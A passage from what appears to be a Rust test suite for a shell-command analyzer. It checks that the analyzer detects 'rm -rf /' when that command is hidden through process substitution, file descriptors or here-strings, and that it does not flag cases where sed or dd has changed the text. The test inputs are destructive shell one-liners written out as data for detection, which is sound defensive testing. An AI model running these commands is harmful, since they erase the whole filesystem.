        "echo 'rm -rf /' | cat - f > x.sh; bash x.sh",
        "cat <(echo 'rm -rf /') f > x.sh; source x.sh",
        "bash 3< <(echo 'rm -rf /'; cat f) /dev/fd/3",
        "exec 4< <(echo 'rm -rf /'); bash /dev/fd/4",
    ] {
        assert!(
            runs(line, "rm -rf /"),
            "{line}: {:?}",
            render(&analysis(line))
        );
    }
    // A filter that changes the text is not a copy.
    assert!(!runs(
        "sed s/x/y/ > x.sh <<< 'rm -rf /'; bash x.sh",
        "rm -rf /"
    ));
    assert!(!runs(
        "dd of=x.sh skip=1 <<< 'rm -rf /'; bash x.sh",
        "rm -rf /"
    ));
}

/// Whether some command of `line`, whoever starts it, has argv `argv`.
fn runs(line: &str, argv: &str) -> bool {
    analysis(line).commands.iter().any(|c| {
        c.argv
            .iter()
            .map(|x| x.to_string())
            .collect::<Vec<_>>()
            .join(" ")
            == argv
    })
}
